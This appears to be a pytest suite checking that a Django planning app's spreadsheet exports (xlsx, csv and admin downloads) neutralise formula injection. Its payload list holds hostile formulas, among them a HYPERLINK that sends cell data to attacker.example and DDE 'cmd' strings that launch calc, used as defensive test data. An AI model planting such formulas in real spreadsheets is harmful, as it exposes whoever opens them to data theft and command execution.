"""No export the product writes carries a live formula (CSV / formula injection).

Walks every export path: the plan export (.xlsx and .csv) and every django-import-export
download of the admin, in every format the admin offers, with text cells that start with
``=``, ``+``, ``-``, ``@``, tab and CR. Spreadsheet cells are read back the way Excel would
see them (openpyxl for .xlsx, the csv module for .csv/.tsv).
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.contrib import admin
from django.test import RequestFactory
from openpyxl import load_workbook

from budget.models import BudgetLine
from common.resources import FormulaSafeResource
from common.spreadsheets import FORMULA_TRIGGERS, escape_cell, unescape_cell
from importer.parsing.xlsx_reader import read_csv, read_xlsx
from importer.resources import export_plan_csv, export_plan_xlsx
from indicators.models import Indicator
from tasks.models import Task
from tests.factories import UserFactory

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _is_live(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def _csv_cells(text: str, delimiter: str = ",") -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def _xlsx_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))  # formulas kept as formulas
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return [cell.value for cell in cells]


def _cells(title: str, data) -> list | None:
    """The cells of a spreadsheet-like export, or None for formats no spreadsheet opens."""
    text = data.decode("utf-8-sig") if isinstance(data, bytes) and title != "xlsx" else data
    if title == "xlsx":
        return _xlsx_cells(data)
    if title in ("csv", "tsv"):
        return _csv_cells(text, "\t" if title == "tsv" else ",")
    if title == "json":
        return [value for row in json.loads(text) for value in row.values()]
    return None


@pytest.fixture
def hostile(world):
    """Text fields of every exported model start with a formula trigger."""
    task = world.task_a
    Task.objects.filter(pk=task.pk).update(
        content=PAYLOADS[0], requirement=PAYLOADS[1], notes=PAYLOADS[2], lead_text=PAYLOADS[3]
    )
    Task.objects.filter(pk=world.task_b.pk).update(
        content=PAYLOADS[4], result=PAYLOADS[5], deadline_text=PAYLOADS[2]
    )
    world.unit_a.name = PAYLOADS[0]
    world.unit_a.save()
    BudgetLine.objects.create(plan=task.plan, content=PAYLOADS[1], note=PAYLOADS[3])
    Indicator.objects.create(plan=task.plan, name=PAYLOADS[3], text=PAYLOADS[0], target_value=97)
    return task.plan


def test_plan_export_xlsx_has_no_live_formula(hostile):
    cells = _xlsx_cells(export_plan_xlsx(hostile))
    assert not [value for value in cells if _is_live(value)]
    assert escape_cell(PAYLOADS[0]) in cells and escape_cell(PAYLOADS[4]) in cells


def test_plan_export_csv_has_no_live_formula(hostile):
    cells = _csv_cells(export_plan_csv(hostile).decode("utf-8-sig"))
    assert not [value for value in cells if _is_live(value)]
    assert escape_cell(PAYLOADS[1]) in cells and escape_cell(PAYLOADS[4]) in cells


def _export_admins():
    return [
        (model, model_admin)
        for model, model_admin in admin.site._registry.items()
        if hasattr(model_admin, "get_export_formats")
    ]


def test_every_admin_export_resource_escapes():
    resources = [
        resource
        for _model, model_admin in _export_admins()
        for resource in model_admin.get_export_resource_classes(None)
    ]
    assert len(resources) >= 4
    assert all(issubclass(resource, FormulaSafeResource) for resource in resources), resources


@pytest.mark.parametrize(
    "model_admin", [m for _model, m in _export_admins()], ids=lambda m: m.model.__name__
)
def test_every_admin_download_has_no_live_formula(hostile, model_admin):
    request = RequestFactory().get("/")
    request.user = UserFactory(is_staff=True, is_superuser=True)
    checked = 0
    for format_class in model_admin.get_export_formats():
        file_format = format_class()
        data = model_admin.get_export_data(
            file_format, request, model_admin.model.objects.all(), encoding="utf-8"
        )
        cells = _cells(file_format.get_title(), data)
        if cells is None:
            continue
        checked += 1
        live = [value for value in cells if _is_live(value)]
        assert not live, (file_format.get_title(), live)
        assert any(value == escape_cell(p) for value in cells for p in PAYLOADS)
    assert checked >= 2  # at least .csv and .xlsx


@pytest.mark.parametrize("payload", [*PAYLOADS, "- Rà soát văn bản", "Rà soát", "-5", ""])
def test_escaping_is_undone_by_unescaping(payload):
    assert unescape_cell(escape_cell(payload)) == payload


def test_numbers_are_not_escaped():
    assert [escape_cell(v) for v in ("-5", "+84 912 345 678", "-1.000,5", 12)] == [
        "-5",
        "+84 912 345 678",
        "-1.000,5",
        12,
    ]


@pytest.mark.parametrize("export", [export_plan_xlsx, export_plan_csv])
def test_text_starting_with_a_dash_survives_the_round_trip(world, export):
    """ "- Rà soát ..." is written as "'- Rà soát ..." and read back without the apostrophe."""
    plan = world.task_a.plan
    Task.objects.filter(pk=world.task_a.pk).update(content="- Rà soát văn bản QPPL")
    Task.objects.filter(pk=world.task_b.pk).update(content="=1+1 không phải công thức")
    read = read_xlsx if export is export_plan_xlsx else read_csv
    contents = [row.content for row in read(export(plan)).rows]
    assert "- Rà soát văn bản QPPL" in contents
    assert "=1+1 không phải công thức" in contents


def test_admin_export_then_import_changes_nothing(hostile):
    """The admin's re-import undoes the escaping: every row is unchanged, so skipped."""
    from tasks.admin import TaskResource

    Task.objects.filter(pk=hostile.tasks.first().pk).update(result="- Rà soát văn bản")
    dataset = TaskResource().export(queryset=Task.objects.filter(plan=hostile))
    assert any(escape_cell(PAYLOADS[0]) in row for row in dataset)
    result = TaskResource().import_data(dataset, dry_run=True)
    assert not result.has_errors()
    assert {row.import_type for row in result.rows} == {"skip"}


def test_admin_xlsx_download_reimports_with_empty_values(hostile):
    """import-export's escaping stringifies every cell; an empty amount must stay empty."""
    from import_export.formats.base_formats import XLSX

    from budget.admin import BudgetLineResource

    model_admin = admin.site._registry[BudgetLine]
    request = RequestFactory().get("/")
    request.user = UserFactory(is_staff=True, is_superuser=True)
    data = model_admin.get_export_data(XLSX(), request, BudgetLine.objects.all())
    assert "None" not in _xlsx_cells(data)
    dataset = XLSX().create_dataset(data)
    result = BudgetLineResource().import_data(dataset, dry_run=True)
    assert not result.has_errors() and not result.has_validation_errors()
